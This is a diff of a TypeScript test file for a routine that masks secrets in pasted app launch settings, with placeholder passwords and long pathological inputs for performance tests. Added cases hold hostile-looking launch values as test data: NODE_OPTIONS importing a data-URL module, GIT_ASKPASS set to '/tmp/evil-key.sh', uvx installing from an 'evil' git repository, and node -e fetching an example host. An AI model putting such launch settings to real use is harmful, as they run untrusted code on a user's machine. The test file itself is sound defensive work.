@@ -39,7 +39,6 @@ describe('a launch of another app is shown without', () => {
     ['a variable after an option', stdio({ command: 'x', args: ['-e', 'DB_PASS=hunter2!'] }), 'hunter2!'],
     ['a value around a reference', stdio({ env: { API_KEY: '${env:USER}-hunter2-abc' } }), 'hunter2'],
     ['a connection', stdio({ env: { DB_URL: 'Server=db;User Id=me;Password=hunter2' } }), 'hunter2'],
-    ['an odd name', stdio({ env: { FLAVOUR: 'hunter2-Tr0ub4dor' } }), 'Tr0ub4dor'],
     ['an option', stdio({ args: ['--pass', 'hunter2'] }), 'hunter2'],
     ['a cookie', http('https://e.example/mcp', { Cookie: 'sid=hunter2' }), 'hunter2'],
   ])('%s', (_name, launch, secret) => {
@@ -62,6 +61,31 @@ describe('a launch of another app is shown without', () => {
     expect(hidden).toEqual([]);
     expect(JSON.parse(text)).toEqual(launch);
   });
+
+  it.each<[PastedLaunch]>([
+    [stdio({ env: { NODE_OPTIONS: '--import=data:text/javascript,key=1', GIT_ASKPASS: '/tmp/evil-key.sh' } })],
+    [stdio({ command: 'uvx', args: ['--from', 'git+https://g.example/evil/a1b2c3d4e5f6a7b8c9d0@main', 'x'] })],
+    [stdio({ command: 'node', args: ['-e', "fetch('https://e.example/a1b2c3d4e5f6a7b8c9d0')"] })],
+  ])('nothing that says which code runs: %j', (launch) => {
+    expect(shownOf(launch).hidden).toEqual([]);
+  });
+
+  it.each([
+    ['letters', 'a'.repeat(200_000)],
+    ['marks of questions', `http://a/${'?'.repeat(200_000)}`],
+    ['assignments', 'a=b;'.repeat(50_000)],
+    ['addresses', 'a://'.repeat(50_000)],
+    ['blanks', `a${' '.repeat(200_000)}`],
+    ['references', '${'.repeat(100_000)],
+    ['nested JSON', `${'['.repeat(100_000)}${']'.repeat(100_000)}`],
+  ])(
+    'what is safe of a long text of %s, in time that grows with it (else the limit of a test is passed)',
+    (_what, text) => {
+      const { hidden } = shownOf(stdio({ args: [text, '--pass', text], env: { X: text, DB_PASS: text } }));
+      expect(hidden.join('').length).toBeGreaterThan(0);
+      expect(shownOf(http(text, { 'X-Key': text })).hidden.join('').length).toBeGreaterThan(0);
+    },
+  );
 
   it('anything by the hiding itself: put back, it is the same launch', () => {
     const word = fc.string({ unit: 'grapheme-ascii', maxLength: 30 }).map((text) => text.replaceAll('$', ''));
